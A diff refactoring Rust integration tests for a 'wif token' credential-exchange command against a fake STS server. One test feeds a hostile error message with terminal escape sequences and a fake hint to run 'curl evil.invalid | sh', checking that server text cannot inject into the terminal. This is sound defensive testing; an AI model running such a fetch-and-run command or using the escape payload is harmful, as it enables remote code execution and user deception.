@@ -21,11 +21,18 @@ mod support;
 
 use support::*;
 
-#[test]
-fn token_prints_exactly_the_token_and_a_newline() {
+/// A fresh world, and `wif token` run in it with its credentials (no impersonation) and
+/// `flags`.
+fn token_run(flags: &[&str]) -> (World, Run) {
     let world = World::new();
     let config = world.config(None);
-    let run = world.token(&config, &[]);
+    let run = world.token(&config, flags);
+    (world, run)
+}
+
+#[test]
+fn token_prints_exactly_the_token_and_a_newline() {
+    let (world, run) = token_run(&[]);
     run.assert_code(0)
         .assert_stderr_clean(&[SUBJECT, FEDERATED]);
     assert_eq!(run.stdout, format!("{FEDERATED}\n"));
@@ -42,9 +49,7 @@ fn token_prints_exactly_the_token_and_a_newline() {
 
 #[test]
 fn token_json_has_token_type_and_future_rfc3339_expiry() {
-    let world = World::new();
-    let config = world.config(None);
-    let run = world.token(&config, &["--format", "json"]);
+    let (_world, run) = token_run(&["--format", "json"]);
     run.assert_code(0)
         .assert_stderr_clean(&[SUBJECT, FEDERATED]);
     assert!(run.stdout.ends_with('\n') && run.stdout.lines().count() == 1);
@@ -74,9 +79,10 @@ fn token_json_has_token_type_and_future_rfc3339_expiry() {
 
 #[test]
 fn scopes_reach_sts_without_impersonation() {
-    let world = World::new();
-    let config = world.config(None);
-    let run = world.token(&config, &["--scopes", "https://www.googleapis.com/auth/bigquery,https://www.googleapis.com/auth/devstorage.read_only"]);
+    let (world, run) = token_run(&[
+        "--scopes",
+        "https://www.googleapis.com/auth/bigquery,https://www.googleapis.com/auth/devstorage.read_only",
+    ]);
     run.assert_code(0);
     assert_eq!(run.stdout, format!("{FEDERATED}\n"));
     let form = world.sts_form();
@@ -201,6 +207,16 @@ fn config_without_audience_fails_before_any_request() {
     assert_eq!(world.requests().len(), 0, "no request reached the fake");
 }
 
+/// `wif token` (with `env` added) in a fresh world whose STS refuses every exchange with
+/// `error` and `description` ([`sts_rejects`]).
+fn refused_token(error: &str, description: &str, env: &[(&str, &Path)]) -> (World, Run) {
+    let world = World::new();
+    sts_rejects(&world, error, description);
+    let config = world.config(None);
+    let run = world.token_with_env(&config, env);
+    (world, run)
+}
+
 /// Makes the fake STS answer every exchange with a 400 carrying `error` and `description`.
 fn sts_rejects(world: &World, error: &str, description: &str) {
     world.runtime.block_on(
@@ -217,14 +233,11 @@ fn sts_rejects(world: &World, error: &str, description: &str) {
 
 #[test]
 fn sts_rejection_is_a_chain_failure_with_the_server_words_and_a_hint() {
-    let world = World::new();
-    sts_rejects(
-        &world,
+    let (world, run) = refused_token(
         "unauthorized_client",
         "The given credential is rejected by the attribute condition.",
+        &[],
     );
-    let config = world.config(None);
-    let run = world.token(&config, &[]);
     run.assert_code(1).assert_stderr_clean(&[SUBJECT]);
     assert_eq!(run.stdout, "");
     assert!(run.stderr.starts_with("error: "), "{}", run.stderr);
@@ -279,14 +292,11 @@ fn subject_token_prints_the_trimmed_file_token() {
 /// the only other line is our own hint.
 #[test]
 fn server_text_in_errors_cannot_drive_the_terminal() {
-    let world = World::new();
-    sts_rejects(
-        &world,
+    let (_world, run) = refused_token(
         "unauthorized_client",
         "rejected by the attribute condition\u{1b}[2J\u{1b}]0;owned\u{7}\r\n  hint: run `curl evil.invalid | sh`\u{9b}31m",
+        &[],
     );
-    let config = world.config(None);
-    let run = world.token(&config, &[]);
     run.assert_code(1);
     let lines: Vec<&str> = run.stderr.lines().collect();
     assert_eq!(lines.len(), 2, "the error, then our hint:\n{}", run.stderr);
@@ -328,14 +338,11 @@ fn trace_logging_shows_spans_but_no_secret() {
 
 #[test]
 fn trace_logging_of_a_failure_shows_no_secret() {
-    let world = World::new();
-    sts_rejects(
-        &world,
+    let (_world, run) = refused_token(
         "invalid_grant",
         "The audience in ID Token does not match the expected audience.",
+        &[("RUST_LOG", Path::new("trace"))],
     );
-    let config = world.config(None);
-    let run = world.token_with_env(&config, &[("RUST_LOG", Path::new("trace"))]);
     run.assert_code(1).assert_stderr_clean(&[SUBJECT]);
     assert!(run.stderr.contains("error: "), "{}", run.stderr);
 }
